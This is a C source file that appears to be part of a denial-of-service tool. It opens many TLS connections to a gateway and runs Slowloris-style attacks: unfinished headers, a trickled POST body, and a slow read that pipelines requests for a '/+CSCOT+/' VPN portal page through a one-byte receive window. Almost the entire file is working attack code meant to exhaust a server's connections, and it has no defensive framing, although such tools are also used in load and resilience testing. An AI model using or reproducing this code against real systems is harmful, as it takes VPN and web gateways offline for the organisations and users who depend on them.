// SPDX-License-Identifier: GPL-2.0-only
#include "lazy.h"

#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "clock.h"
#include "stop.h"

enum {
	TURN_USEC = 20000,
	PAUSE_SECONDS = 3,
	/* In the handshake at a time, for it has to end in seconds. */
	SHAKING_MAX = 64,
	/* Of one connection, at once; a gateway has its own limit. */
	REQUESTS = 24,
	WINDOW = 1,
};

#define PAGE "GET /+CSCOT+/ HTTP/1.1\r\nHost: vpn.example\r\n\r\n"

static const char *const first[LAZY_KINDS] = {
	[LAZY_HEAD] = "GET / HTTP/1.1\r\nX-Lazy: ",
	[LAZY_BODY] = "POST / HTTP/1.1\r\nContent-Length: 60000\r\n\r\n",
	[LAZY_READER] = PAGE,
};

/**
 * struct lazy_conn - a connection
 * @fd: socket, 0 without
 * @ssl: TLS
 * @open: it has finished that
 */
struct lazy_conn {
	int fd;
	SSL *ssl;
	bool open;
};

/**
 * struct lazy_state - all of them
 * @lazy: what is wanted
 * @conns: connections
 * @shaking: how many have not finished TLS
 * @open: how many have
 * @begun: all were there
 * @next: when each of them goes on
 */
struct lazy_state {
	const struct lazy *lazy;
	struct lazy_conn *conns;
	size_t shaking;
	size_t open;
	bool begun;
	double next;
};

static void lazy_close(struct lazy_state *s, struct lazy_conn *c)
{
	s->open -= c->open;
	s->shaking -= !c->open;
	SSL_free(c->ssl);
	close(c->fd);
	memset(c, 0, sizeof(*c));
}

static void lazy_connect(struct lazy_state *s, struct lazy_conn *c)
{
	const struct sockaddr_in *to = &s->lazy->gateway;
	const int window = WINDOW;

	c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (c->fd < 0) {
		c->fd = 0;
		return;
	}
	s->shaking++;
	if (s->lazy->kind == LAZY_READER)
		setsockopt(c->fd, SOL_SOCKET, SO_RCVBUF, &window,
			   sizeof(window));
	c->ssl = SSL_new(s->lazy->tls);
	if (!c->ssl || !SSL_set_fd(c->ssl, c->fd) ||
	    (connect(c->fd, (const struct sockaddr *)to, sizeof(*to)) &&
	     errno != EINPROGRESS))
		lazy_close(s, c);
	else
		SSL_set_connect_state(c->ssl);
}

static bool is_closed(const struct lazy_conn *c)
{
	struct pollfd p = { .fd = c->fd, .events = POLLRDHUP };

	return poll(&p, 1, 0) > 0;
}

static void lazy_shake(struct lazy_state *s, struct lazy_conn *c)
{
	int n = SSL_do_handshake(c->ssl);
	int err = SSL_get_error(c->ssl, n);

	if (n == 1) {
		c->open = true;
		s->shaking--;
		s->open++;
	} else if (is_closed(c) || (err != SSL_ERROR_WANT_READ &&
				    err != SSL_ERROR_WANT_WRITE &&
				    err != SSL_ERROR_SYSCALL)) {
		lazy_close(s, c);
	}
}

/* Whoever sends nothing yet has not begun. */
static void lazy_build(struct lazy_state *s)
{
	struct lazy_conn *c;

	for (c = s->conns; c < s->conns + s->lazy->n; c++) {
		if (c->open && is_closed(c))
			lazy_close(s, c);
		else if (c->fd && !c->open)
			lazy_shake(s, c);
		else if (!c->fd && s->shaking < SHAKING_MAX)
			lazy_connect(s, c);
	}
}

static void lazy_begin(struct lazy_state *s)
{
	const char *text = first[s->lazy->kind];
	unsigned int i, n = s->lazy->kind == LAZY_READER ? REQUESTS : 1;
	struct lazy_conn *c;

	for (c = s->conns; c < s->conns + s->lazy->n; c++)
		for (i = 0; i < n; i++)
			SSL_write(c->ssl, text, strlen(text));
	s->begun = true;
	printf("lazy %zu\n", s->open);
}

static void lazy_go_on(struct lazy_state *s)
{
	struct lazy_conn *c;

	for (c = s->conns; c < s->conns + s->lazy->n; c++) {
		if (!c->open)
			continue;
		if (is_closed(c))
			lazy_close(s, c);
		else if (s->lazy->kind != LAZY_READER)
			SSL_write(c->ssl, "x", 1);
	}
	printf("left %zu\n", s->open);
}

static void lazy_turn(struct lazy_state *s)
{
	if (!s->begun) {
		lazy_build(s);
		if (s->open == s->lazy->n)
			lazy_begin(s);
	} else if (clock_now() >= s->next) {
		lazy_go_on(s);
		s->next = clock_now() + PAUSE_SECONDS;
	}
	fflush(stdout);
}

bool lazy_run(const struct lazy *lazy)
{
	struct lazy_state s = {
		.lazy = lazy, .conns = calloc(lazy->n, sizeof(*s.conns)),
	};
	struct lazy_conn *c;

	if (!s.conns)
		return false;
	while (!stop_asked()) {
		lazy_turn(&s);
		usleep(TURN_USEC);
	}
	for (c = s.conns; c < s.conns + lazy->n; c++)
		if (c->fd)
			lazy_close(&s, c);
	free(s.conns);
	return true;
}
